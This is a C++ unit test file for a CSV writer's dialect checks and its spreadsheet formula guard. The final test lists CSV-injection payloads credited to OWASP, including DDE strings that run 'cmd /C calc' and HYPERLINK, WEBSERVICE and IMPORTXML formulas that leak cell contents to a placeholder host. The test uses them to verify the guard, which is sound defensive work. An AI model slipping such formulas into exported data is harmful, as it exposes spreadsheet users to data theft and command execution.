// SPDX-License-Identifier: MIT
#include <curtail/artifact/csv_dialect.hpp>

#include <cstddef>
#include <string>
#include <vector>

#include <curtail/artifact/csv_sink.hpp>
#include <curtail/table/columns.hpp>

#include "artifact/memory_output.hpp"
#include "catch.hpp"

namespace {

using curtail::LineEnd;

bool refused(const curtail::CsvDialect& dialect) {
    try {
        curtail::check_dialect(dialect);
        return false;
    } catch (const curtail::UsageError& error) {
        return error.code() == curtail::ErrorCode::invalid_option;
    }
}

bool separator_refused(char separator) {
    return refused({.separator = separator});
}

}  // namespace

TEST_CASE("CsvDialect: the default has commas, LF and a header", "[artifact]") {
    const curtail::CsvDialect dialect;
    CHECK(dialect.separator == ',');
    CHECK(dialect.line_end == LineEnd::lf);
    CHECK(dialect.header);
    CHECK_FALSE(refused(dialect));
}

TEST_CASE("check_dialect: accepts the usual separators", "[artifact]") {
    for (const char separator : {',', ';', '\t', '|'}) {
        INFO("separator " << static_cast<int>(separator));
        CHECK_FALSE(separator_refused(separator));
    }
}

TEST_CASE("check_dialect: refuses a separator that is a quote, line break, NUL, letter, digit or not ASCII",
          "[artifact]") {
    for (const char separator : {'"', '\n', '\r', '\0', 'a', 'Z', '0', '9', '\x80', '\xFF'}) {
        INFO("separator " << static_cast<int>(separator));
        CHECK(separator_refused(separator));
    }
}

TEST_CASE("check_dialect: refuses a separator that is part of a number", "[artifact]") {
    for (const char separator : {'+', '-', '.'}) {
        INFO("separator " << separator);
        CHECK(separator_refused(separator));
    }
}

TEST_CASE("check_dialect: holds the quote to the separator's rule, and to differ from it", "[artifact]") {
    // Case S42: a quote that occurs in numbers would tear them apart.
    for (const char mark : {'\n', '\r', '\0', 'a', 'Z', '0', '8', '\x80', '+', '-', '.', ':', ' '}) {
        INFO("mark " << static_cast<int>(mark));
        CHECK(refused({.quote = mark}));
    }
    for (const char mark : {'\'', '*', '$', '\t', '|', '#', '%', ';'}) {
        INFO("mark " << mark);
        CHECK_FALSE(refused({.quote = mark}));
        CHECK(refused({.separator = mark, .quote = mark}));
    }
}

TEST_CASE("check_dialect: refuses words that need quotes or are not UTF-8, and empty words for true and false",
          "[artifact]") {
    // Case N45 and its like for the other words.
    for (const char* word : {"a,b", "a\"b", "a\nb", "a\rb", ",", "\"", "n\xE4"}) {
        INFO("word " << word);
        CHECK(refused({.null_text = word}));
        CHECK(refused({.true_text = word}));
        CHECK(refused({.false_text = word}));
        CHECK(refused({.nan_text = word}));
    }
    CHECK(refused({.true_text = ""}));
    CHECK(refused({.false_text = ""}));
    CHECK_FALSE(refused({.null_text = "NA"}));
    CHECK_FALSE(refused({.null_text = "\\N"}));
    CHECK_FALSE(refused({.null_text = "n\xC3\xA4"}));
    CHECK_FALSE(refused({.true_text = "yes", .false_text = "no"}));
    CHECK_FALSE(refused({.true_text = "1", .false_text = "0"}));
}

TEST_CASE("check_dialect: refuses two values of one spelling, and such a null if nulls are to stay apart",
          "[artifact]") {
    CHECK(refused({.true_text = "x", .false_text = "x"}));
    CHECK(refused({.nan_text = "inf"}));
    CHECK(refused({.nan_text = "-inf"}));
    for (const char* null :
         {"True", "False", "NaN", "inf", "-inf", "infinity", "-infinity", "0", "-9999", "1970-01-01"}) {
        INFO("null " << null);
        CHECK(refused({.null_text = null}));
        CHECK_FALSE(refused({.null_text = null, .nulls_apart = false}));
    }
    CHECK_FALSE(refused({.null_text = "-"}));
    CHECK(refused({.nan_text = ""}));
    CHECK_FALSE(refused({.null_text = "NA", .nan_text = ""}));
}

TEST_CASE("check_dialect: accepts 0 to 100 fixed digits", "[artifact]") {
    CHECK_FALSE(refused({.float_precision = 0}));
    CHECK_FALSE(refused({.float_precision = 100}));
    CHECK(refused({.float_precision = -1}));
    CHECK(refused({.float_precision = 101}));
}

TEST_CASE("check_dialect: with a decimal comma only the separator may be a comma", "[artifact]") {
    CHECK_FALSE(refused({.decimal_comma = true}));
    CHECK_FALSE(refused({.separator = ';', .decimal_comma = true}));
    CHECK(refused({.separator = ';', .quote = ',', .decimal_comma = true}));
}

TEST_CASE("CsvDialect: the presets are valid and differ from the default as documented", "[artifact]") {
    using curtail::CsvDialect;
    for (const CsvDialect& preset : {CsvDialect::pandas(), CsvDialect::rfc4180(), CsvDialect::excel()}) {
        CHECK_FALSE(refused(preset));
        CHECK(preset.separator == ',');
        CHECK(preset.header);
    }
    CHECK(CsvDialect::pandas().line_end == LineEnd::lf);
    CHECK(CsvDialect::pandas().nan_text.empty());
    CHECK_FALSE(CsvDialect::pandas().nulls_apart);
    CHECK(CsvDialect::rfc4180().line_end == LineEnd::crlf);
    CHECK_FALSE(CsvDialect::rfc4180().byte_order_mark);
    CHECK(CsvDialect::excel().byte_order_mark);
    CHECK(CsvDialect::excel().line_end == LineEnd::crlf);
    CHECK(CsvDialect::excel().formula_guard == curtail::FormulaGuard::apostrophe);
}

TEST_CASE("needs_guard: is true for text that a spreadsheet may run, and for text that looks guarded", "[artifact]") {
    for (const char first : {'=', '+', '-', '@', '\t', '\r', '\n', '\0', '\''}) {
        INFO("first character " << static_cast<int>(first));
        CHECK(curtail::detail::needs_guard(std::string(1, first)));
        CHECK(curtail::detail::needs_guard(std::string(1, first) + "x"));
        CHECK_FALSE(curtail::detail::needs_guard(std::string("x") + first));
    }
    CHECK_FALSE(curtail::detail::needs_guard(""));
    CHECK_FALSE(curtail::detail::needs_guard("1"));
    CHECK_FALSE(curtail::detail::needs_guard(" =1"));
    CHECK_FALSE(curtail::detail::needs_guard("\xC3\xA9"));
}

TEST_CASE("remove_formula_guard: returns what was guarded, and leaves other texts as they are", "[artifact]") {
    // Case G114, for every text of up to two characters.
    for (int length = 0; length <= 2; ++length) {
        for (int code = 0; code < (length == 0 ? 1 : length == 1 ? 256 : 65536); ++code) {
            std::string text;
            if (length > 0) text += static_cast<char>(code & 0xFF);
            if (length > 1) text += static_cast<char>(code >> 8);
            const std::string in_file = curtail::detail::needs_guard(text) ? "'" + text : text;
            REQUIRE(curtail::remove_formula_guard(in_file) == text);
        }
    }
}

TEST_CASE("FormulaGuard: guards all that OWASP lists, reversibly; without it texts are written as they are",
          "[artifact]") {
    // The payloads of OWASP's page on CSV injection, of its testing guide and of those who collect them.
    const std::vector<std::string> payloads = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org?leak=\"&A1&A2,\"click me\")",
        "=WEBSERVICE(\"http://example.org/\"&A1)",
        "=IMPORTXML(CONCAT(\"http://example.org/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "-2+3+cmd|' /C calc'!D2",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
    };
    const auto table = curtail::columns(curtail::column("text", payloads));
    const auto fields_of = [&](curtail::FormulaGuard guard) {
        const MemoryOutput output;
        curtail::CsvSink sink(output, {.dialect = {.quote_style = curtail::QuoteStyle::all, .formula_guard = guard}});
        sink.open(table.schema());
        sink.append(table);
        sink.finish();
        // Every field is quoted, one per line: between its quotes is the text with its quotes doubled.
        std::vector<std::string> fields(1);
        const std::string& bytes = output.kept->bytes;
        for (std::size_t at = bytes.find('\n') + 2; at < bytes.size(); ++at) {
            if (bytes[at] != '"') {
                fields.back() += bytes[at];
            } else if (bytes[at + 1] == '"') {
                fields.back() += bytes[++at];
            } else {
                at += 2;  // the line end and the quote behind it
                if (at < bytes.size()) fields.emplace_back();
            }
        }
        return fields;
    };
    CHECK(fields_of(curtail::FormulaGuard::off) == payloads);
    const std::vector<std::string> guarded = fields_of(curtail::FormulaGuard::apostrophe);
    REQUIRE(guarded.size() == payloads.size());
    for (std::size_t i = 0; i < payloads.size(); ++i) {
        CHECK(guarded[i] == "'" + payloads[i]);
        CHECK(curtail::remove_formula_guard(guarded[i]) == payloads[i]);
    }
}
